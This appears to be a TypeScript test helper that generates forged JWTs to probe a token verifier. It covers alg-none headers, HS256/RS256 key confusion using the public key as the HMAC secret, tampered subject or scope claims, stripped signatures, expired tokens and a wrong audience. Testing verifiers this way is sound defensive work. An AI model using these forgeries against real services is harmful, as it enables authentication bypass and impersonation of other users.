import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto';

/** The attacks on a JWT of somebody who has not its key. */
export const FORGERIES = ['none', 'hs256-public-key', 'claims', 'stripped', 'expired', 'audience'] as const;
export type Forgery = (typeof FORGERIES)[number];

/** @param publicKey with which the receiver verifies `jwt` */
export function forge(jwt: string, forgery: Forgery, publicKey: JsonWebKey): string {
  const [header = '', payload = '', signature = ''] = jwt.split('.');
  const changed = (part: string, changes: object) => encode({ ...decode(part), ...changes });
  const forged: Record<Forgery, () => string> = {
    none: () => `${changed(header, { alg: 'none' })}.${payload}.`,
    'hs256-public-key': () => {
      const input = `${changed(header, { alg: 'HS256' })}.${payload}`;
      const pem = createPublicKey({ key: publicKey, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
      return `${input}.${createHmac('sha256', pem).update(input).digest('base64url')}`;
    },
    claims: () => `${header}.${withAnother(payload)}.${signature}`,
    stripped: () => `${header}.${payload}.`,
    expired: () => `${header}.${changed(payload, { exp: Math.floor(Date.now() / 1000) - 3600 })}.${signature}`,
    audience: () => `${header}.${changed(payload, { aud: 'https://elsewhere.example' })}.${signature}`,
  };
  return forged[forgery]();
}

/** Another person or scope: what most is to be had by. */
function withAnother(payload: string): string {
  const claims = decode(payload) as Record<string, unknown>;
  const name = ['sub', 'cpf', 'scope'].find((likely) => likely in claims) ?? 'name';
  return encode({ ...claims, [name]: `${claims[name]}x` });
}

function decode(part: string): object {
  return JSON.parse(Buffer.from(part, 'base64url').toString());
}

function encode(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}
